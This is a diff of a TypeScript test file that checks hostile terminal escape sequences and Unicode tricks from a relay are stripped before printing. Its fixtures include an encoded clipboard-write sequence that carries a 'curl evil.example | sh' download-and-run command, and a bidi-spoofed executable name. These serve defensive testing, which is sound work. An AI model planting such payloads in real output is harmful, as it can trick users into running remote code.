@@ -21,6 +21,8 @@ const CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
 const C1_CSI = '\u009b31m';
 const BIDI = '\u202egnp.exe\u202c \u2066isolate\u2069';
 const ZERO_WIDTH = 'a\u200bb\u200dc\u2060d\ufeffe';
+/** Direction marks (RLM, LRM, ALM): allowed by the request schema, still replaced when printed. */
+const MARKS = '\u200fgnp.exe\u200e \u061cmark';
 const HOSTILE = `${CLEAR}${TITLE}${LINK}${CLIPBOARD}${C1_CSI}${BIDI}${ZERO_WIDTH}`;
 
 let provider: KeyPair;
@@ -124,9 +126,9 @@ describe('escape sequences from the relay never reach the terminal (#10.1)', () 
 
   it('in requests that decrypt: pull --key, list, show and show --json print none of them', async () => {
     const inbox = newInbox();
-    // Passes the request schema (which refuses control characters), but carries bidi overrides,
-    // isolates, zero-width characters and a line separator.
-    const sneaky = await validRequest({ name: `Sam ${BIDI} ${ZERO_WIDTH}`, region: `Noord${'\u2028'}Zuid`, message: `Hallo ${BIDI}\nTweede regel ${ZERO_WIDTH}` });
+    // Passes the request schema (which refuses control characters, bidi overrides and isolates),
+    // but carries direction marks, zero-width characters and a line separator.
+    const sneaky = await validRequest({ name: `Sam ${MARKS} ${ZERO_WIDTH}`, region: `Noord${'\u2028'}Zuid`, message: `Hallo ${MARKS}\nTweede regel ${ZERO_WIDTH}` });
     // Fails the schema, whose message quotes what it received (meeting: … but received "<ESC>[2J…").
     const broken = { ...(await validRequest()), meeting: HOSTILE, name: CLEAR };
     const items = [
